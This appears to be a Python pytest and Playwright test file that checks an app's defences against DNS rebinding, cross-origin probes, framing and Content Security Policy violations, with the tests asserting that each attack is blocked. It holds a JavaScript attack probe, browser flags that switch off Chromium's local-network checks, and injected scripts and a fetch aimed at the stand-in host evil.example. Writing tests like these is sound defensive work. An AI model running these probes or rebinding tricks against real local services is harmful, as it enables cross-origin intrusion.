"""Pages of other sites against the app, in a real browser; and the app under its own policy."""

from __future__ import annotations

import shutil
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from benchmarks.serving import CHROMIUM_FLAGS, Server
from tests.browser import explore_world
from tests.browser.steering import home_at
from tests.browser.test_app import PAGES
from tests.waiting import wait_on

pytestmark = pytest.mark.browser

NAME = "evil.example"
# What a page tries with a server: its pages, our routes, both sockets, an upload, its messages.
ATTACK = """async (app) => {
  const tried = {};
  for (const path of ["/", "/api/health", "/api/static/v/wire/frames.js", "/_stcore/host-config"]) {
    tried[path] = await fetch(app + path).then((answer) => answer.status, () => "nothing");
  }
  const put = { method: "PUT", body: "x" };
  tried.upload = await fetch(`${app}/_stcore/upload_file/a/b`, put).then(
    (answer) => answer.status, () => "nothing");
  for (const path of ["/_stcore/stream", "/api/live"]) {
    tried[`socket ${path}`] = await new Promise((resolve) => {
      const socket = new WebSocket(app.replace("http", "ws") + path);
      socket.onopen = () => resolve("open");
      socket.onerror = () => resolve("nothing");
    });
  }
  return tried;
}"""


@pytest.fixture
def rebound(browser: Browser) -> Iterator[Page]:
    """A tab of a browser for which `evil.example` is this machine.

    Without Chromium's own check of who may reach this machine: other browsers have none.
    """
    unchecked = "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"
    rule = f"--host-resolver-rules=MAP {NAME} 127.0.0.1"
    other = browser.browser_type.launch(
        executable_path=shutil.which("chromium"), args=[*CHROMIUM_FLAGS, rule, unchecked]
    )
    yield other.new_page()
    other.close()


def test_a_name_that_was_rebound_to_this_machine_gets_nothing(
    rebound: Page, app_server: Server
) -> None:
    """Then the foreign page is of "the same origin": only the name says whose it is."""
    foreign = f"http://{NAME}:{urlsplit(app_server.url).port}"
    answer = rebound.goto(foreign)
    assert answer is not None
    assert answer.status == 403
    expect(rebound.locator("body")).to_contain_text(f"ZOETROPE_HOSTS={NAME}")
    assert not rebound.context.cookies()
    serve_page(rebound, f"{foreign}/attack", "<p>Nothing to see</p>")
    tried = rebound.evaluate(ATTACK, foreign)
    assert set(tried.values()) == {403, "nothing"}, tried
    assert tried["/"] == tried["/api/health"] == tried["upload"] == 403


def serve_page(page: Page, address: str, body: str) -> None:
    """Open a page that its site delivered before its name was made to mean this machine."""

    def deliver(route: Route) -> None:
        route.fulfill(content_type="text/html", body=f"<!doctype html>{body}")

    page.route(address, deliver)
    page.goto(address)


@contextmanager
def another_site(folder: Path) -> Iterator[str]:
    """A web server of its own: another origin, though on this machine too."""
    handler = partial(SimpleHTTPRequestHandler, directory=str(folder))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as site:
        thread = threading.Thread(target=site.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{site.server_address[1]}"
        site.shutdown()


@pytest.fixture
def foreign(browser: Browser, tmp_path: Path) -> Iterator[Page]:
    """A tab on a page of another origin, whose errors are wanted."""
    (tmp_path / "index.html").write_text("<!doctype html><p>Another page</p>")
    context = browser.new_context()
    with another_site(tmp_path) as site:
        tab = context.new_page()
        tab.goto(site)
        yield tab
    context.close()


def test_a_page_of_another_origin_gets_nothing(foreign: Page, server: str) -> None:
    tried = foreign.evaluate(ATTACK, server)
    assert set(tried.values()) == {"nothing"}, tried


def test_a_page_that_frames_the_app_shows_nothing_of_it(foreign: Page, server: str) -> None:
    foreign.evaluate(
        """(app) => new Promise((resolve) => {
          const frame = Object.assign(document.createElement("iframe"), { src: app });
          frame.onload = resolve;
          document.body.append(frame);
        })""",
        server,
    )
    wait_on(foreign, lambda: foreign.frames[1].url.startswith("chrome-error:"))
    assert foreign.frames[1].locator("[data-testid=stApp]").count() == 0


def test_a_page_that_opens_the_app_in_a_window_has_no_hold_of_it(
    foreign: Page, server: str
) -> None:
    foreign.evaluate("(app) => { window.opened = window.open(app) }", server)
    foreign.wait_for_function("() => window.opened.closed")


VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
  window.violations.push(`${violatedDirective} ${blockedURI}`));
"""


@pytest.fixture(scope="module")
def world(
    serve: Callable[..., Server], tmp_path_factory: pytest.TempPathFactory
) -> SimpleNamespace:
    """The whole app with small pictures, their codes and a map."""
    home = tmp_path_factory.mktemp("doors")
    with home_at(home):
        explore_world.build(home)
    return SimpleNamespace(url=serve("app.py", home=home).url)


@pytest.mark.parametrize(("path", "title"), PAGES.items())
def test_no_page_asks_for_what_the_policy_forbids(
    page: Page, world: SimpleNamespace, path: str, title: str
) -> None:
    page.add_init_script(VIOLATIONS)
    answer = page.goto(f"{world.url}/{path}?data=blots&checkpoint=blots-pca")
    assert answer is not None
    assert "frame-ancestors" in answer.headers["content-security-policy"]
    expect(page.get_by_role("heading", name=title, exact=True)).to_be_visible(timeout=60_000)
    if path == "explore":  # plotly.js compiles its drawing, and the socket decodes
        page.wait_for_selector(".zmap[data-painted]", timeout=60_000)
        page.wait_for_selector(".zmap[data-live=ready]", timeout=60_000)
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.violations") == []


def test_the_policy_stops_what_is_not_ours(
    page: Page, server: str, console_errors: list[str]
) -> None:
    page.add_init_script(VIOLATIONS)
    page.goto(f"{server}/data?data=digits")
    expect(page.get_by_role("heading", name="Data", exact=True)).to_be_visible(timeout=60_000)
    page.evaluate(
        """() => {
          const add = (tag, more) =>
            document.body.append(Object.assign(document.createElement(tag), more));
          add("script", { src: "http://evil.example/x.js" });
          add("script", { textContent: "window.wasRun = true" });
          add("img", { src: "http://evil.example/x.png" });
          fetch("http://evil.example/told").catch(() => {});
        }"""
    )
    page.wait_for_function("() => window.violations.length >= 4")
    assert page.evaluate("window.wasRun") is None
    console_errors.clear()  # four violations, as wanted


def test_a_busy_server_is_asked_again(
    page: Page, world: SimpleNamespace, console_errors: list[str]
) -> None:
    asked: list[str] = []

    def busy_at_first(route: Route) -> None:
        asked.append(route.request.url)
        if len(asked) == 1:
            route.fulfill(status=429, headers={"Retry-After": "1"}, body="Try again.")
        else:
            route.fallback()

    page.route("**/api/points/**", busy_at_first)
    page.goto(f"{world.url}/explore?data=blots&checkpoint=blots-pca")
    page.wait_for_selector(".zmap[data-painted]", timeout=60_000)
    assert len(asked) >= 2
    only_busy(console_errors)


def test_a_server_that_stays_busy_is_told_about(
    page: Page, world: SimpleNamespace, console_errors: list[str]
) -> None:
    def busy(route: Route) -> None:
        route.fulfill(status=429, headers={"Retry-After": "0.01"}, body="The server is busy.")

    page.route("**/api/points/**", busy)
    page.goto(f"{world.url}/explore?data=blots&checkpoint=blots-pca")
    expect(page.locator(".zmap")).to_contain_text("The server is busy", timeout=60_000)
    only_busy(console_errors)


def only_busy(console_errors: list[str]) -> None:
    """The browser tells of each 429 itself; nothing else went wrong."""
    assert all("429" in text for text in console_errors), console_errors
    console_errors.clear()
